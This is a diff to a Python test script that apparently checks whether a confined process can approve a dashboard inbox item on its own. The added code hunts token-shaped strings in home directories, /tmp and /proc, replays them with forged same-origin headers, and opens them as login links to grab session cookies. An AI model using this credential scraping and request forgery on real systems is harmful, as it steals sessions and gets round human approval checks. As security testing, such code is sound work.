@@ -4,8 +4,9 @@ approve an inbox item through the dashboard on its real port.
 argv: PORT ITEM HOME REPO
 Scans files under HOME, REPO/.loop, /tmp and every /proc entry it can see for strings shaped
 like the token (43 URL-safe characters), then POSTs approve with each candidate as the cookie and
-as the URL token, with a forged same-origin Origin, Host and Sec-Fetch-Site, and once with none.
-Prints one JSON line: what it saw and every status the server answered.
+as the URL token, with a forged same-origin Origin, Host and Sec-Fetch-Site, and once with none;
+and opens each candidate as a link, as a browser would, to approve with any session it opens.
+Writes hunt.json: what it saw, every status the server answered, the sessions it got.
 """
 
 import json
@@ -58,7 +59,34 @@ for pid in pids:
         pass
 
 statuses: list[int] = []
+sessions: list[str] = []
 base = f"http://127.0.0.1:{port}"
+cookie_name = f"loopctl_ui_{port}"
+
+
+class NoRedirect(urllib.request.HTTPRedirectHandler):
+    def redirect_request(self, *args: object, **kwargs: object) -> None:
+        return None  # the 303 and its Set-Cookie are the answer
+
+
+def open_link(token: str) -> str | None:
+    """GET /?token=…: the session id a Set-Cookie hands out, if any."""
+    opener = urllib.request.build_opener(NoRedirect)
+    try:
+        with opener.open(f"{base}/?token={token}", timeout=10) as answer:
+            statuses.append(int(answer.status))
+            headers = answer.headers
+    except urllib.error.HTTPError as refused:
+        statuses.append(int(refused.code))
+        headers = refused.headers
+    except OSError:
+        statuses.append(-1)
+        return None
+    for value in headers.get_all("Set-Cookie") or []:
+        name, _, rest = value.partition("=")
+        if name.strip() == cookie_name:
+            return rest.split(";")[0]
+    return None
 
 
 def post(token: str | None, via: str) -> int:
@@ -86,6 +114,10 @@ statuses.append(post(None, "none"))
 for token in sorted(candidates)[:500]:
     statuses.append(post(token, "cookie"))
     statuses.append(post(token, "query"))
+    session = open_link(token)
+    if session:
+        sessions.append(session)
+        statuses.append(post(session, "cookie"))
 # The report goes to a file in the worktree (the one place it may write): with every token-shaped
 # string it found, it is longer than the captured tail of its output.
 report = {
@@ -94,6 +126,7 @@ report = {
     "candidates": sorted(candidates),
     "statuses": sorted(set(statuses)),
     "attempts": len(statuses),
+    "sessions": len(sessions),
 }
 Path("hunt.json").write_text(json.dumps(report), encoding="utf-8")
 print(f"{len(candidates)} candidates, {len(statuses)} attempts")
